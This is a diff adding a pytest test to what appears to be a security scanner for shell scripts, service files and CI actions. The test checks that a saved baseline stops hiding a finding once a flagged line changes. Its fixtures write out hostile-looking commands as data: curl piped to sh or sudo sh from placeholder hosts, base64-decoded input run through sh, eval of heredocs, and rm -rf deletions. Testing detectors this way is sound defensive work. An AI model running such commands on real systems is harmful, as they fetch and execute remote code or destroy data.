@@ -257,6 +257,39 @@ def test_without_the_extra(repository: pathlib.Path, module: str) -> None:
     assert done.stderr.count("\n") == 1
 
 
+#: A file before and after: what is run is another thing, and so is the finding.
+CHANGED = [
+    ("a.sh", "curl -s https://a.example/x | sh", "curl -s https://b.example/x | sh"),
+    ("a.sh", "bash <(curl -s https://a.example/x)", "bash <(curl -s https://b.example/x)"),
+    ("a.sh", "echo aaaa | base64 -d | sh", "echo bbbb | base64 -d | sh"),
+    ("a.sh", "f() { curl -s https://a.example/x | sudo sh; }", "f() { curl -s https://b.example/x | sudo sh; }"),
+    ("a.sh", 'eval "$(cat <<E\na\nE\n)"', 'eval "$(cat <<E\nb\nE\n)"'),
+    ("a.sh", "frob " + "a" * 3000 + " --ok", "frob " + "a" * 3000 + " --kill"),
+    ("a.sh", "if [ -e a; then", "if [ -e a; then\nrm -rf /srv/x"),
+    ("a.service", "[Service]\nExecStart=/opt/run --ok", "[Service]\nExecStart=/opt/run --kill"),
+    ("action.yml", "runs: [", "runs: [ {steps: [{run: rm /srv/x}"),
+    ("a.sh", "ls " + "a" * 2**20, "rm " + "a" * 2**20),
+]
+
+
+@pytest.mark.parametrize(("name", "before", "after"), CHANGED, ids=map(str, range(len(CHANGED))))
+def test_a_baseline_hides_nothing_else(
+    tmp_path: pathlib.Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    name: str,
+    before: str,
+    after: str,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    file = tmp_path / name
+    file.write_text(before + "\n")
+    run(capsys, "--write-baseline", "b.json")
+    assert run(capsys, "--baseline", "b.json")[0] == 0
+    file.write_text(after + "\n")
+    assert run(capsys, "--baseline", "b.json")[0] == 1
+
+
 def test_a_baseline_hides_what_was_there_wherever_it_moves(
     repository: pathlib.Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
